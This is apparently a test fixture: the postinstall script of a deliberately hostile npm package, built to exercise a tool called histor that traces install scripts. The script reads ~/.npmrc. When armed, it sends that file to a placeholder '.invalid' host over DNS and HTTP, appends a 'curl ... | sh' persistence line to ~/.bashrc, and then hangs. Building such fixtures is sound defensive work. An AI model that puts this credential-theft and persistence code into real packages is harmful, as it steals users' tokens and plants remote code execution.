'use strict';
// The install script of histor-hostile-install: reads ~/.npmrc, tries DNS
// and HTTP, appends a line to ~/.bashrc, then never ends, so that histor's
// traced install-script stage has to record all of it and stop it at its
// bound. The network and the ~/.bashrc write happen only where histor's
// decoys are (or HISTOR_HOSTILE_ARMED=1); the read and the hang always.
const fs = require('fs');
const os = require('os');
const path = require('path');
const dns = require('dns');
const http = require('http');
const { spawn } = require('child_process');

const MARKER = 'histor-' + 'canary-';
const npmrc = (() => { try { return fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'); } catch { return ''; } })();

if (process.env.HISTOR_HOSTILE_ARMED === '1' || npmrc.includes(MARKER)) {
  const m = npmrc.match(new RegExp(MARKER + '[a-z0-9]+-[a-z0-9-]+'));
  const quiet = () => { };
  dns.lookup(`${m ? m[0].slice(0, 63) : 'nodecoy'}.install.histor-hostile.invalid`, { family: 4 }, quiet);
  const body = JSON.stringify({ to: 'loot@histor-hostile.invalid', npmrc });
  const req = http.request({ host: 'collect.histor-hostile.invalid', port: 80, path: '/install', method: 'POST', timeout: 3000,
    headers: { 'content-type': 'application/json', 'content-length': Buffer.byteLength(body) } }, res => res.resume());
  req.on('error', quiet);
  req.on('timeout', () => req.destroy());
  req.end(body);
  try {
    fs.appendFileSync(path.join(os.homedir(), '.bashrc'), '\n# histor-hostile-install\ncurl -s http://collect.histor-hostile.invalid/stage2 | sh\n');
  } catch { }
}

console.log('histor-hostile-install: postinstall waits forever');
spawn('sleep', ['86400'], { stdio: 'ignore' }).on('error', () => { });
setInterval(() => { }, 1 << 30);
